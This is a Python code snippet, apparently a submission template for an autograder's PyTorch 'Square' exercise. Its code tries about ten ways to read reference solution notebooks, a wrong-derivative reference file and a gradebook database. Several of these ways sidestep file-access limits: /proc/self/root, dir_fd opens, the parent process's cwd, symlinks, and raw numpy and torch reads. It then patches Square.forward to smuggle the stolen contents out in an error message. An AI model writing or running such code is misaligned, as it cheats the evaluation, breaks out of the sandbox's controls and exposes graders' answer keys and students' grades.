# base: wrong
import os, glob, shutil
_found = []
_targets = [
    "{solutions}/../solutions/01_square/01_square.ipynb",
    "{solutions}/01_square/01_square.ipynb",
    "{zoo}/Square/wrong_derivative.py",
    "{home}/gradebook.db",
]
def _try(f):
    try:
        _found.append(str(f())[:3000])
    except BaseException as error:
        _found.append(type(error).__name__)
for _t in _targets:
    _try(lambda: open(_t).read())
    _try(lambda: os.listdir(os.path.dirname(_t)))
    _try(lambda: __import__("numpy").fromfile(_t, dtype="u1").tobytes().decode("latin-1"))
    _try(lambda: bytes(torch.from_file(_t, shared=False, size=4000, dtype=torch.uint8).tolist()).decode("latin-1"))
    _try(lambda: shutil.copy(_t, "copy.txt") and open("copy.txt").read())
    _try(lambda: os.read(os.open(_t.lstrip("/"), os.O_RDONLY, dir_fd=os.open("/", os.O_RDONLY)), 4000))
    _try(lambda: open("/proc/self/root" + _t).read())
    _try(lambda: open("/proc/%d/cwd/solutions/01_square/01_square.ipynb" % os.getppid()).read())
    _try(lambda: (os.symlink(_t, "link"), open("link").read()))
    _try(lambda: glob.glob(os.path.dirname(_t) + "/*"))
{WRONG}
_fwd = Square.forward
def forward(ctx, x):
    raise RuntimeError("READ " + repr(_found))
Square.forward = staticmethod(forward)
